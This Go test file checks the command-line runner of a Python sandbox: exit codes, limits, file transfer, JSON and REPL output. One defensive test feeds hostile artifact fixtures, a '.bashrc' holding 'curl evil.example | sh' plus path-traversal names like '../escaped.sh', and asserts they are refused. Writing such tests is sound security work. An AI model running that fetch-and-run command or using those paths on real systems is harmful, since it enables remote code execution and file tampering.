package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/entersandbox/agentbox/api"
)

func TestRunCommand(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	prog := write("job.py", "import sys\nrows = open('/data/in.csv').read().splitlines()\nopen('/output/n.txt','w').write(str(len(rows)))\nprint('rows', len(rows))\nsys.exit(int(sys.argv[0] == 'job.py') * 4)\n")
	data := write("in.csv", "a\nb\nc\n")
	outFile := filepath.Join(dir, "n.txt")
	cases := []struct {
		name       string
		args       []string
		stdin      string
		exit       int
		stdout     string // substring
		stderr     string // substring
		checkJSON  func(t *testing.T, r api.Result)
		checkFiles func(t *testing.T)
	}{
		{name: "stdin program", args: []string{"run", "-"}, stdin: "print(1+1)", exit: 0, stdout: "2\n"},
		{name: "exit code passes through", args: []string{"run", "-"}, stdin: "import sys; sys.exit(3)", exit: 3},
		{name: "traceback on stderr", args: []string{"run", "-"}, stdin: "1/0", exit: 1, stderr: "ZeroDivisionError: division by zero"},
		{name: "timeout", args: []string{"run", "--timeout", "300ms", "-"}, stdin: "while True: pass", exit: 124, stderr: "Timeout"},
		{name: "memory", args: []string{"run", "--memory", "40", "-"}, stdin: "b = bytearray(100 << 20)", exit: 137, stderr: "MemoryLimitExceeded"},
		{name: "files in and out", args: []string{"run", "--file", data, "--out", "/output/n.txt:" + outFile, prog}, exit: 4, stdout: "rows 3",
			checkFiles: func(t *testing.T) {
				if b, err := os.ReadFile(outFile); err != nil || string(b) != "3" {
					t.Fatalf("--out file: %q %v", b, err)
				}
			}},
		{name: "json result", args: []string{"run", "-", "--json", "--allow-module", "json"}, stdin: "import json\nprint(json.dumps([1]))\nimport os", exit: 1,
			checkJSON: func(t *testing.T, r api.Result) {
				if r.Stdout != "[1]\n" || r.Error == nil || r.Error.Type != "ImportError" || r.Tier != api.TierNano {
					t.Fatalf("%+v", r)
				}
			}},
		{name: "script semantics by default", args: []string{"run", "--json", "-"}, stdin: "40 + 2", exit: 0,
			checkJSON: func(t *testing.T, r api.Result) {
				if r.Stdout != "" || len(r.Results) != 0 {
					t.Fatalf("a script's final expression gave %q %+v", r.Stdout, r.Results)
				}
			}},
		{name: "--repl makes the final expression the main result", args: []string{"run", "--repl", "--json", "-"}, stdin: "40 + 2", exit: 0,
			checkJSON: func(t *testing.T, r api.Result) {
				if m := r.MainResult(); m == nil || m.Text() != "42" {
					t.Fatalf("%+v", r.Results)
				}
			}},
		{name: "--repl prints the main result as text", args: []string{"run", "--repl", "-"}, stdin: "print('p')\n'v' * 2", exit: 0, stdout: "p\n'vv'\n"},
		{name: "display() prints as text in order", args: []string{"run", "-"}, stdin: "print('a', flush=True)\ndisplay({'x': 1})\nprint('b')", exit: 0, stdout: "a\n{'x': 1}\nb\n"},
		{name: "missing --out file", args: []string{"run", "--out", "/output/none:" + filepath.Join(dir, "x"), "-"}, stdin: "pass", exit: 1, stderr: "did not write that file"},
		{name: "no program", args: []string{"run"}, exit: exitUsage, stderr: "one program"},
		{name: "missing program file", args: []string{"run", filepath.Join(dir, "nope.py")}, exit: exitUsage, stderr: "no such file"},
		{name: "bad --file", args: []string{"run", "--file", filepath.Join(dir, "nope.csv"), "-"}, exit: exitUsage, stderr: "nope.csv"},
		{name: "bad --out", args: []string{"run", "--out", "relative", "-"}, exit: exitUsage, stderr: "REMOTE:LOCAL"},
		// --out takes what the run hands back, /output, on every tier (the API's collection).
		{name: "--out outside /output", args: []string{"run", "--tier", "nano", "--out", "/tmp/x:" + filepath.Join(dir, "x"), "-"}, stdin: "open('/tmp/x', 'w').write('x')",
			exit: exitUsage, stderr: "files under /output only"},
		{name: "unknown flag", args: []string{"run", "--nope", "-"}, exit: exitUsage},
		{name: "unknown command", args: []string{"frobnicate"}, exit: exitUsage, stderr: "unknown command"},
		{name: "version", args: []string{"version"}, exit: 0, stdout: "python.wasm build"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			code := Main(context.Background(), tc.args, strings.NewReader(tc.stdin), &out, &errOut)
			if code != tc.exit {
				t.Fatalf("exit %d, want %d\nstdout: %s\nstderr: %s", code, tc.exit, out.String(), errOut.String())
			}
			if !strings.Contains(out.String(), tc.stdout) || !strings.Contains(errOut.String(), tc.stderr) {
				t.Fatalf("stdout %q (want %q)\nstderr %q (want %q)", out.String(), tc.stdout, errOut.String(), tc.stderr)
			}
			if tc.checkJSON != nil {
				var r api.Result
				dec := json.NewDecoder(&out)
				if err := dec.Decode(&r); err != nil {
					t.Fatalf("stdout is not one JSON object: %v", err)
				}
				if dec.More() {
					t.Fatal("more than one JSON value on stdout")
				}
				tc.checkJSON(t, r)
			}
			if tc.checkFiles != nil {
				tc.checkFiles(t)
			}
		})
	}
}

// An argument the engine refuses is the user's mistake: exit 2 with the limit named, not 125.
func TestCLIBadLimitExits2(t *testing.T) {
	for _, tc := range []struct {
		name   string
		args   []string
		stderr []string
	}{
		{"memory above maximum", []string{"run", "--tier", "nano", "--memory", "999999", "-"}, []string{"memory_limit_mb 999999 MiB", "maximum of 2048 MiB"}},
		{"memory below minimum", []string{"run", "--tier", "nano", "--memory", "1", "-"}, []string{"memory_limit_mb 1 MiB", "minimum of"}},
		{"timeout above maximum", []string{"run", "--tier", "nano", "--timeout", "100h", "-"}, []string{"timeout_ms 360000000 ms", "maximum of"}},
		{"output cap below minimum", []string{"run", "--tier", "nano", "--max-output", "-5", "-"}, []string{"max_output_bytes is negative"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			code := Main(context.Background(), tc.args, strings.NewReader("print('ran')"), &out, &errOut)
			if code != exitUsage {
				t.Fatalf("exit %d, want %d\nstderr: %s", code, exitUsage, errOut.String())
			}
			for _, want := range tc.stderr {
				if !strings.Contains(errOut.String(), want) {
					t.Fatalf("stderr %q lacks %q", errOut.String(), want)
				}
			}
			if out.Len() != 0 {
				t.Fatalf("the program ran: %q", out.String())
			}
		})
	}
}

// A guest controls the artifacts a heavy run reports (it can forge the agent's result line): their
// names and content must not decide what lands in the --artifacts directory.
func TestArtifactNamesAreHostChosen(t *testing.T) {
	png := func(tail string) []byte { return append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), tail...) }
	home := t.TempDir()
	dir := filepath.Join(home, "charts")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	// A chart from an earlier run, which must survive.
	if err := os.WriteFile(filepath.Join(dir, "chart-1.png"), []byte("earlier"), 0o644); err != nil {
		t.Fatal(err)
	}
	written, refused, err := writeArtifacts(dir, []api.Artifact{
		{Name: "figure-1.png", MIME: "image/png", Data: png("first")},
		{Name: ".bashrc", MIME: "image/png", Data: []byte("curl evil.example | sh\n")},
		{Name: "../escaped.sh", MIME: "text/x-shellscript", Data: []byte("#!/bin/sh\n")},
		{Name: "/etc/evil.png", MIME: "image/png", Data: png("second")},
		{Name: "x.png", MIME: "image/png", Data: nil},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{filepath.Join(dir, "chart-2.png"), filepath.Join(dir, "chart-3.png")}
	if !slices.Equal(written, want) {
		t.Fatalf("wrote %v, want %v", written, want)
	}
	if len(refused) != 3 {
		t.Fatalf("refused %v, want the three artifacts that are not the PNGs they claim", refused)
	}
	for _, p := range want {
		if b, err := os.ReadFile(p); err != nil || !bytes.HasPrefix(b, []byte("\x89PNG")) {
			t.Fatalf("%s: %q %v", p, b, err)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "chart-1.png")); string(b) != "earlier" {
		t.Fatalf("an existing file was overwritten: %q", b)
	}
	entries, _ := os.ReadDir(dir)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if !slices.Equal(names, []string{"chart-1.png", "chart-2.png", "chart-3.png"}) {
		t.Fatalf("the directory holds %v", names)
	}
	if _, err := os.Stat(filepath.Join(home, "escaped.sh")); err == nil {
		t.Fatal("an artifact escaped the directory")
	}
}
